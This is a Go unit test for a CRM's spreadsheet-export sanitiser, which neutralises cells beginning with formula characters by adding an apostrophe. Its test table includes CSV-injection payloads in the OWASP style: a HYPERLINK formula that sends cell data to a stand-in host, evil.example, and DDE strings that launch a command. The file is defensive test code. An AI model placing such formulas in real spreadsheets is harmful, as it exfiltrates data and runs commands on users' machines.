package sheet_test

import (
	"testing"

	"github.com/assocrm/assocrm/crm/sheet"
)

// The cells of OWASP's CSV injection page and their neighbours: every
// text beginning with =, +, -, @, TAB or CR gets a leading apostrophe,
// nothing else does, and Unneutralize gives back what was given.
func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"Error: click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Error: click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1)`, `'@SUM(1)`},
		{"-12", "'-12"},
		{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"=", "'="},
		{"", ""},
		{"Amina", "Amina"},
		{"a=b", "a=b"},
		{" =1+1", " =1+1"}, // a space first: Excel reads text
		{"'=1+1", "'=1+1"}, // already marked by a person
		{"\n=1+1", "\n=1+1"},
		{"é=1", "é=1"},
	}
	for _, tt := range tests {
		if got := sheet.Neutralize(tt.in); got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if need := sheet.NeedsNeutralizing(tt.in); need != (tt.want != tt.in) {
			t.Errorf("NeedsNeutralizing(%q) = %v", tt.in, need)
		}
		if back := sheet.Unneutralize(tt.want); back != tt.in && tt.in != "'=1+1" {
			t.Errorf("Unneutralize(%q) = %q, want %q", tt.want, back, tt.in)
		}
	}
	for _, s := range []string{"'", "'a", "''", "'Amina"} {
		if got := sheet.Unneutralize(s); got != s {
			t.Errorf("Unneutralize(%q) = %q, want it unchanged", s, got)
		}
	}
}
